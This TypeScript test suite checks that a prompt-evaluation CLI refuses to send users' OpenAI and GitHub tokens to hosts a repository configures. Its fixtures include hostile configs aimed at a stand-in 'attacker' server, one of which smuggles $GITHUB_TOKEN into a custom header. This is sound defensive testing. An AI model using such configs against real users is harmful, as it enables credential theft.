// Tokens go only where the user sent them. A repository's prompt-workbench.yml points `openai` and
// `github` at an "attacker" test server on 127.0.0.2 (not loopback by the rule: only localhost,
// 127.0.0.1 and ::1 are); the user's OPENAI_API_KEY and GITHUB_TOKEN are sentinels. The attacker
// must receive no request at all, every case must be recorded as errored with a message naming
// the host and how to allow it, and the sentinels must appear in no record, cache file or CLI
// output. With --allow-host the same requests go through (so the rule is what stopped them), and
// the legitimate server on 127.0.0.1, reached through the user's own *_BASE_URL variables, gets
// them without any allowance.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { startTestServer, type TestServer } from '../../support/openaiServer.js';
import { coreRun, makeWorkspace, runMain, walkFiles, type CliRun, type TempWorkspace } from '../../support/rsHarness.js';
import { ALLOW_HOSTS_ENV, checkKeyDestination, parseHostEntry, wellKnownKeyVariables, type Credential } from '../../../src/core/index.js';
import { readRecord } from '../../../src/core/record/read.js';

const OPENAI_SENTINEL = `sk-pw-sentinel-${randomBytes(12).toString('hex')}`;
const GITHUB_SENTINEL = `ghs_pwSentinel${randomBytes(12).toString('hex')}`;
const SENTINELS = [OPENAI_SENTINEL, GITHUB_SENTINEL];

const openaiKey: Credential = { owner: 'openai', source: '$OPENAI_API_KEY' };
const githubToken: Credential = { owner: 'github', source: '$GITHUB_TOKEN' };

describe('the host rule (checkKeyDestination)', () => {
  const allowed = (url: string, credential: Credential, env: NodeJS.ProcessEnv = {}, allowHosts: string[] = [], provider = credential.owner) =>
    checkKeyDestination(url, provider, credential, { env, allowHosts }) === undefined;

  it('the provider’s own host over https', () => {
    assert.ok(allowed('https://api.openai.com/v1', openaiKey));
    assert.ok(allowed('https://models.github.ai/inference', githubToken));
    assert.ok(allowed('https://models.github.ai/orgs/acme/inference', githubToken));
    assert.ok(!allowed('http://api.openai.com/v1', openaiKey), 'not in clear text');
    assert.ok(!allowed('https://models.github.ai/inference', openaiKey), 'one provider’s key does not go to another’s host');
    assert.ok(!allowed('https://api.openai.com.evil.example/v1', openaiKey));
  });

  it('the host of the matching *_BASE_URL variable (the owner’s or the sending provider’s), same port', () => {
    assert.ok(allowed('https://proxy.corp.example/v1', openaiKey, { OPENAI_BASE_URL: 'https://proxy.corp.example/v1' }));
    assert.ok(allowed('https://ghes.corp.example/inference', githubToken, { GITHUB_MODELS_BASE_URL: 'https://ghes.corp.example/api/inference' }));
    assert.ok(allowed('https://gw.corp.example/v1', openaiKey, { MYGW_BASE_URL: 'https://gw.corp.example' }, [], 'mygw'));
    assert.ok(!allowed('https://proxy.corp.example:8443/v1', openaiKey, { OPENAI_BASE_URL: 'https://proxy.corp.example/v1' }), 'another port');
    assert.ok(!allowed('https://proxy.corp.example/v1', githubToken, { OPENAI_BASE_URL: 'https://proxy.corp.example/v1' }), 'another provider’s variable');
  });

  it('loopback is exactly localhost, 127.0.0.1 and ::1', () => {
    for (const url of ['http://localhost:8080/v1', 'http://127.0.0.1:1/v1', 'http://[::1]:9/v1', 'https://LOCALHOST/v1']) assert.ok(allowed(url, githubToken), url);
    assert.ok(allowed('http://127.1/v1', githubToken), 'the URL parser writes 127.1 as 127.0.0.1: the same address');
    for (const url of ['http://127.0.0.2:8080/v1', 'http://0.0.0.0/v1', 'http://localhost.evil.example/v1', 'http://[::ffff:127.0.0.1]/v1', 'http://2130706434/v1'])
      assert.ok(!allowed(url, githubToken), url);
  });

  it('hosts the user allowed: host (any port) or host:port, from the list or PROMPT_WORKBENCH_ALLOW_HOSTS', () => {
    assert.ok(allowed('http://127.0.0.2:8080/v1', githubToken, {}, ['127.0.0.2']));
    assert.ok(allowed('http://127.0.0.2:8080/v1', githubToken, {}, ['127.0.0.2:8080']));
    assert.ok(!allowed('http://127.0.0.2:8081/v1', githubToken, {}, ['127.0.0.2:8080']));
    assert.ok(allowed('https://gw.example/v1', githubToken, {}, ['gw.example:443']));
    assert.ok(allowed('http://[fd00::1]:80/v1', githubToken, {}, ['[fd00::1]']));
    assert.ok(allowed('https://gw.example/v1', githubToken, { [ALLOW_HOSTS_ENV]: 'other.example, gw.example' }));
    assert.ok(!allowed('https://gw.example.evil/v1', githubToken, {}, ['gw.example']));
  });

  it('the refusal names the host and every way to allow it', () => {
    const message = checkKeyDestination('http://127.0.0.2:4567/inference', 'github', githubToken, { env: {} })!;
    assert.match(message, /^not sending \$GITHUB_TOKEN to 127\.0\.0\.2:4567 \(the base URL of provider "github"\)/);
    assert.match(message, /https:\/\/models\.github\.ai/);
    assert.match(message, /--allow-host 127\.0\.0\.2:4567/);
    assert.match(message, /PROMPT_WORKBENCH_ALLOW_HOSTS=127\.0\.0\.2:4567/);
    assert.match(message, /promptWorkbench\.allowHosts user setting/);
  });

  it('host entries parse as host, host:port, [v6]:port or a URL; junk does not', () => {
    assert.deepEqual(parseHostEntry('Example.COM'), { host: 'example.com', port: undefined });
    assert.deepEqual(parseHostEntry('127.0.0.2:8080'), { host: '127.0.0.2', port: '8080' });
    assert.deepEqual(parseHostEntry('[::1]:8080'), { host: '::1', port: '8080' });
    assert.deepEqual(parseHostEntry('https://gw.example:8443/v1'), { host: 'gw.example', port: '8443' });
    for (const junk of ['', 'a b', 'host:port', 'http://', '/path']) assert.equal(parseHostEntry(junk), undefined, junk);
  });

  it('the documented list of well-known keys covers providers’ keys and GitHub tokens', () => {
    const known = wellKnownKeyVariables();
    for (const name of ['OPENAI_API_KEY', 'GITHUB_TOKEN', 'GH_TOKEN', 'AZURE_OPENAI_API_KEY', 'ANTHROPIC_API_KEY', 'OPENROUTER_API_KEY', 'MISTRAL_API_KEY']) assert.ok(known.includes(name), name);
  });
});

describe('security: a repository cannot send the user’s tokens to a host of its choosing', () => {
  let legit: TestServer;
  let attacker: TestServer;
  let ws: TempWorkspace;
  const hostPort = () => `127.0.0.2:${attacker.port}`;
  const env = (extra: NodeJS.ProcessEnv = {}) => ({ PATH: process.env.PATH, OPENAI_API_KEY: OPENAI_SENTINEL, GITHUB_TOKEN: GITHUB_SENTINEL, ...extra });

  const prompt = (models: string[]) => `name: Leak test
model: ${models[0]}
messages:
  - role: user
    content: "Hello {{name}}"
testData:
  - name: Ada
  - name: Bob
workbench:
  models: [${models.join(', ')}]
`;
  const PROMPT = prompt(['openai/gpt-4.1-mini', 'meta/Llama-3.3-70B-Instruct']);

  before(async () => {
    legit = await startTestServer();
    attacker = await startTestServer({ host: '127.0.0.2' });
    ws = await makeWorkspace({
      '.git/HEAD': '',
      'leak.prompt.yml': PROMPT,
      'prompt-workbench.yml': `providers:\n  openai:\n    baseURL: ${attacker.url}\n  github:\n    baseURL: ${attacker.githubURL}\n`,
    });
  });
  after(async () => {
    await Promise.all([legit.close(), attacker.close()]);
    await ws.cleanup();
  });

  function sentinelHits(text: string): string[] {
    return SENTINELS.filter((s) => text.includes(s));
  }

  async function assertNoSentinelOnDisk(what: string): Promise<void> {
    const files = await walkFiles(ws.path('.prompt-workbench'));
    assert.ok(files.length > 0, `${what}: something was written`);
    for (const file of files) assert.deepEqual(sentinelHits(await readFile(file, 'utf8')), [], `${what}: ${file}`);
  }

  function assertNoSentinelInOutput(run: CliRun, what: string): void {
    assert.deepEqual(sentinelHits(run.stdout + run.stderr), [], `${what}: CLI output`);
  }

  it('refused: the attacker gets nothing, every case is an errored row naming the host and how to allow it', async () => {
    const run = await runMain(['eval', 'leak.prompt.yml', '--json', '--verbose'], { cwd: ws.root, env: env() });
    assert.equal(attacker.requests.length, 0, 'the attacker received no request');
    assert.equal(legit.requests.length, 0);
    const report = JSON.parse(run.stdout) as { runs: { recordFile: string }[] };
    const record = await readRecord(path.resolve(ws.root, report.runs[0].recordFile));
    const results = record.results;
    assert.equal(results.length, 4, 'a row per case and model, none missing');
    for (const r of results) {
      assert.equal(r.status, 'errored');
      assert.equal(r.error?.kind, 'config');
      assert.match(r.error?.message ?? '', new RegExp(`not sending \\$(OPENAI_API_KEY|GITHUB_TOKEN) to ${hostPort().replace(/\./g, '\\.')}`));
      assert.match(r.error?.message ?? '', new RegExp(`--allow-host ${hostPort().replace(/\./g, '\\.')}`));
    }
    assert.match(run.stderr, /Model openai\/gpt-4\.1-mini → openai \(configured in prompt-workbench\.yml\): cannot run – not sending \$OPENAI_API_KEY/);
    assertNoSentinelInOutput(run, 'refused');
    await assertNoSentinelOnDisk('refused');
  });

  it('the same through the core, and with the key named in a header or under another provider name', async () => {
    await ws.write(
      'prompt-workbench.yml',
      `providers:
  sneaky:
    baseURL: ${attacker.url}
    noApiKey: true
    headers: { X-Token: "\${env:GITHUB_TOKEN}" }
  borrowed:
    baseURL: ${attacker.url}
    apiKeyEnv: OPENAI_API_KEY
`,
    );
    await ws.write('other.prompt.yml', prompt(['sneaky/m', 'borrowed/m']));
    try {
      const run = await coreRun({ root: ws.root, prompt: 'other.prompt.yml', env: env(), settings: { cache: true } });
      assert.equal(attacker.requests.length, 0);
      assert.equal(run.record.results.length, 4);
      assert.ok(run.record.results.every((r) => r.status === 'errored' && /not sending \$(GITHUB_TOKEN \(in a header\)|OPENAI_API_KEY) to 127\.0\.0\.2/.test(r.error!.message)));
      assert.deepEqual(sentinelHits(JSON.stringify(run)), []);
    } finally {
      await ws.write('prompt-workbench.yml', `providers:\n  openai:\n    baseURL: ${attacker.url}\n  github:\n    baseURL: ${attacker.githubURL}\n`);
    }
  });

  it('a key variable the repository names itself (not a well-known one) goes where the repository says', async () => {
    await ws.write('prompt-workbench.yml', `providers:\n  custom:\n    baseURL: ${attacker.url}\n    apiKeyEnv: PW_CUSTOM_KEY\n`);
    await ws.write('custom.prompt.yml', prompt(['custom/m']));
    try {
      const run = await coreRun({ root: ws.root, prompt: 'custom.prompt.yml', env: env({ PW_CUSTOM_KEY: 'repo-named-key' }) });
      assert.deepEqual(
        run.record.results.map((r) => r.error?.message),
        [undefined, undefined],
      );
      assert.ok(attacker.requests.every((r) => r.headers.authorization === 'Bearer repo-named-key'));
      assert.deepEqual(sentinelHits(JSON.stringify(attacker.requests)), []);
    } finally {
      attacker.reset();
      await ws.write('prompt-workbench.yml', `providers:\n  openai:\n    baseURL: ${attacker.url}\n  github:\n    baseURL: ${attacker.githubURL}\n`);
    }
  });

  it('with --allow-host 127.0.0.2:<port> the requests go through (the rule was what stopped them); nothing on disk or in output holds a token', async () => {
    attacker.reset();
    const run = await runMain(['eval', 'leak.prompt.yml', '--allow-host', hostPort(), '--verbose'], { cwd: ws.root, env: env() });
    assert.equal(run.code, 0, run.stderr);
    const chats = attacker.requests.filter((r) => r.method === 'POST');
    assert.equal(chats.length, 4);
    assert.equal(chats.filter((r) => r.path === '/v1/chat/completions' && r.headers.authorization === `Bearer ${OPENAI_SENTINEL}`).length, 2);
    assert.equal(chats.filter((r) => r.path === '/inference/chat/completions' && r.headers.authorization === `Bearer ${GITHUB_SENTINEL}`).length, 2);
    assert.match(
      run.stdout,
      new RegExp(`Model meta/Llama-3\\.3-70B-Instruct → GitHub Models ${attacker.githubURL.replace(/\./g, '\\.')} \\(publisher served by GitHub Models; key from \\$GITHUB_TOKEN; cost: n/a`),
    );
    assertNoSentinelInOutput(run, 'allowed');
    await assertNoSentinelOnDisk('allowed');

    attacker.reset();
    const viaEnv = await runMain(['eval', 'leak.prompt.yml', '--no-cache'], { cwd: ws.root, env: env({ [ALLOW_HOSTS_ENV]: hostPort() }) });
    assert.equal(attacker.requests.length, 4, `PROMPT_WORKBENCH_ALLOW_HOSTS works too: ${viaEnv.stderr}`);
  });

  it('the user’s own OPENAI_BASE_URL / GITHUB_MODELS_BASE_URL on 127.0.0.1 get the tokens with no allowance', async () => {
    const plain = await makeWorkspace({ '.git/HEAD': '', 'leak.prompt.yml': PROMPT });
    try {
      const run = await runMain(['eval', 'leak.prompt.yml'], { cwd: plain.root, env: env({ OPENAI_BASE_URL: legit.url, GITHUB_MODELS_BASE_URL: legit.githubURL }) });
      assert.equal(run.code, 0, run.stderr);
      const chats = legit.requests.filter((r) => r.method === 'POST');
      assert.equal(chats.length, 4);
      assert.deepEqual(chats.map((r) => r.path).sort(), ['/inference/chat/completions', '/inference/chat/completions', '/v1/chat/completions', '/v1/chat/completions']);
      assertNoSentinelInOutput(run, 'legit');
      for (const file of await walkFiles(plain.path('.prompt-workbench'))) assert.deepEqual(sentinelHits(await readFile(file, 'utf8')), [], file);
    } finally {
      await plain.cleanup();
    }
  });
});
